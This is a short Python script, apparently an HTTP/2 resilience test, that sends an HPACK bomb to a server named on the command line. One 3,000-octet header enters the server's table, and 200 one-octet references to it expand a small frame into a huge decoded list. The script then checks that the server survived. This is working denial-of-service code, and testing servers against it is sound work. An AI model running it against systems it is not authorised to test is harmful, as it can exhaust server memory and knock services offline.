"""An HPACK bomb, bounded: a small block that decodes to a large list (RFC 7541 §7.3). hpack_bomb.py HOST PORT [COPIES]

One field of 3,000 octets enters the server's table; then one octet each names it again and again.
"""

from __future__ import annotations

import sys

import h2prism
from h2prism import hpack


def hpack_bomb(host: str, port: int, copies: int = 200) -> str:
    """How much larger the list was than its block, and what the server made of it."""
    large = "a" * 3000
    with h2prism.connect(host, port) as peer:
        head: list[h2prism.hpack.Op | str | bytes | tuple[str | bytes, str | bytes] | h2prism.Field] = []
        for name, value in (f for f in peer.request_fields() if isinstance(f, tuple) and len(f) == 2):
            head.append(hpack.literal(name, value))
        head.append(hpack.literal_indexed("x-bomb", large))
        head += [hpack.indexed(62)] * copies  # the newest entry of the table
        frame = h2prism.Headers(1, head, end_stream=True)
        size = len(bytes(frame))
        peer.send(frame)
        try:
            message = peer.response(1, timeout=5)
            said = f"status {message.status}" if message.status else f"reset {message.reset!r}"
        except h2prism.PeerClosed:
            goaways = peer.events.filter(h2prism.Goaway, received=True)
            said = repr(goaways[-1].frame) if goaways else "closed the connection"
    decoded = (copies + 1) * (len(large) + len("x-bomb") + 32)
    with h2prism.connect(host, port) as fresh:
        assert fresh.alive()
    return f"{size} octets stood for {decoded}: {said}; the server lives"


if __name__ == "__main__":
    print(hpack_bomb(sys.argv[1], int(sys.argv[2]), int((sys.argv[3:] or ["200"])[0])))
